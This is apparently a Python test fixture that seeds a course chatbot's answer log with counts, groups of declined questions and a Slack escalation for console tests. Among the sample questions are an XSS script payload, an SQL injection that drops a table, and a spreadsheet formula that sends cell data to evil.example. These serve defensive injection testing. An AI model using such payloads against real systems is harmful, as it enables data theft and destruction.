"""A seeded answer log for the console tests: known counts, known gap groups, one open Slack escalation.

A module of its own (not conftest) so tests import its constants by name.
"""

from __future__ import annotations

import time
from pathlib import Path

from bot.answering.escalations import EscalationLog
from bot.answering.feedback import AnswerLog
from pipelines.domain import Answer, Citation

STUDENT = "U0STUDENT1"
OTHER_STUDENT = "U0STUDENT2"
CHANNEL = "C0COURSE01"
ADMIN, PASSWORD = "prof", "correct horse battery"
SCRIPT_QUESTION = "<script>alert('pwned')</script> what is RAG?"
SQL_QUESTION = "what is RAG'; DROP TABLE answers; --"
FORMULA_QUESTION = '=HYPERLINK("http://evil.example/?"&A1,"x")'

# Declined questions in three groups a human would make; the clustering must find them.
GAP_GROUPS = {
    "gpu": [
        "How do I install CUDA drivers for my GPU?",
        "My GPU is not detected by PyTorch, what driver do I need?",
        "Which CUDA version works with my graphics card?",
        "nvidia-smi shows no devices, how to fix GPU drivers?",
    ],
    "exam": [
        "When is the final exam?",
        "Is there a midterm exam date?",
        "What is the deadline for the homework?",
        "How is the course graded?",
    ],
    "docker": [
        "How do I run the notebook inside a Docker container?",
        "Can you explain docker compose for the project?",
        "My docker image build fails, what base image should I use?",
    ],
}
ANSWERED = [
    ("What is retrieval-augmented generation?", "ct-rag-101", "Retrieval-augmented generation, step by step", 12.0),
    ("How does RAG pick passages?", "ct-rag-101", "Retrieval-augmented generation, step by step", 40.0),
    ("What is a triplet in contrastive learning?", "ct-contrastive-201", "Contrastive fine-tuning with triplets", 5.0),
    (SCRIPT_QUESTION, "ct-rag-101", "Retrieval-augmented generation, step by step", 12.0),
    (SQL_QUESTION, "ct-rag-101", "Retrieval-augmented generation, step by step", 70.0),
    (FORMULA_QUESTION, "ct-whisper-301", "Transcribing lectures with Whisper", 30.0),
]


def answer(question: str, video_id: str | None = None, title: str = "", start: float = 0.0) -> Answer:
    citations = (
        [Citation(video_id, title, f"file:///course/{video_id}.mp4#t={int(start)}", start, start + 9, 0.8, "a quote")] if video_id else []
    )
    text = f"From the lectures: {question[:20]}" if video_id else "That is not covered in the course."
    return Answer(question, text, bool(video_id), citations, "embedded", "offline-extractive")


def seed(data_dir: Path) -> dict[str, str]:
    """Fill ``data_dir/feedback.sqlite``; returns ids the tests need (an answer, the escalation)."""
    log = AnswerLog(data_dir / "feedback.sqlite")
    ids: dict[str, str] = {}
    base = time.time() - 5  # Slack thread ts = when the question was posted: a few seconds before its answer
    for number, (question, video, title, start) in enumerate(ANSWERED):
        thread = f"{base + number:.6f}"
        answer_id = log.record_answer("slack", CHANNEL, thread, STUDENT, answer(question, video, title, start))
        ids.setdefault("answered", answer_id)
        if number == 0:
            log.record_vote(answer_id, STUDENT, 1)
    down_answer = log.record_answer(
        "discord", "931000000000000001", "931000000000000001", OTHER_STUDENT, answer("What is RAG used for?", "ct-rag-101", "RAG", 3.0)
    )
    log.record_vote(down_answer, OTHER_STUDENT, -1)
    for group in GAP_GROUPS.values():
        for number, question in enumerate(group):
            log.record_answer(
                "slack" if number % 2 else "discord", CHANNEL, f"{base + 100 + len(ids) + number:.6f}", OTHER_STUDENT, answer(question)
            )
    escalations = EscalationLog(log.path)
    escalation, _ = escalations.open(
        "slack",
        CHANNEL,
        f"{base:.6f}",
        STUDENT,
        "Can a TA explain the exam policy?",
        "That is not covered in the course.",
        answer_id=ids["answered"],
    )
    ids["escalation"] = escalation.id
    ids["thread"] = f"{base:.6f}"
    return ids


QUESTION_COUNT = len(ANSWERED) + 1 + sum(len(group) for group in GAP_GROUPS.values())
NOT_COVERED_COUNT = sum(len(group) for group in GAP_GROUPS.values())
